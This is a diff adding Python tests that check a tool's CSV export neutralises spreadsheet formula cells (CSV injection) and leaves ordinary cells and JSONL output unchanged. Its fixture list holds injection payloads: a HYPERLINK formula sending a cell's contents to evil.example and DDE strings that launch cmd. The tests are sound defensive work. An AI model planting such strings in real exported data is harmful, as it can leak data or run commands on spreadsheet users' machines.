@@ -91,3 +91,46 @@ def test_unwritable_out_is_a_clear_error(engine: Engine, export: Any, tmp_path: 
     )
     assert result.exit_code == 1
     assert "cannot write" in result.output and "folder exists" in result.output
+
+
+#: Cell starts that a spreadsheet reads as a formula (OWASP's CSV injection list).
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_and_jsonl_stays_exact(
+    engine: Engine, export: Any
+) -> None:
+    for i, text in enumerate(FORMULAS):
+        item = add_item(engine, title=text, publisher=text, url=f"https://x.example/{i}")
+        decide(
+            engine, item, "accept", Actor("U1", text, "slack"), sector="criminal_justice", now=T0
+        )
+    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
+    assert [r["item_title"] for r in rows] == ["'" + t for t in FORMULAS]
+    assert [r["publisher"] for r in rows] == ["'" + t for t in FORMULAS]
+    assert [r["user_name"] for r in rows] == ["'" + t for t in FORMULAS]
+    assert rows[0]["decision_id"].isdigit() and rows[0]["action"] == "accept"
+    assert json.loads(rows[0]["previous_state"])["status"] == "queued"  # JSON cells untouched
+    exact = [json.loads(line) for line in export("--format", "jsonl").splitlines()]
+    assert [r["item_title"] for r in exact] == FORMULAS
+    assert [r["user_name"] for r in exact] == FORMULAS
+
+
+def test_csv_leaves_ordinary_cells_alone(engine: Engine, export: Any) -> None:
+    item = add_item(engine, title="Prisons: a 10-year plan = better?", publisher="HMPPS")
+    decide(
+        engine, item, "accept", Actor("U1", "o'brien", "slack"), sector="criminal_justice", now=T0
+    )
+    row = next(csv.DictReader(io.StringIO(export())))
+    assert (row["item_title"], row["publisher"], row["user_name"]) == (
+        "Prisons: a 10-year plan = better?",
+        "HMPPS",
+        "o'brien",
+    )
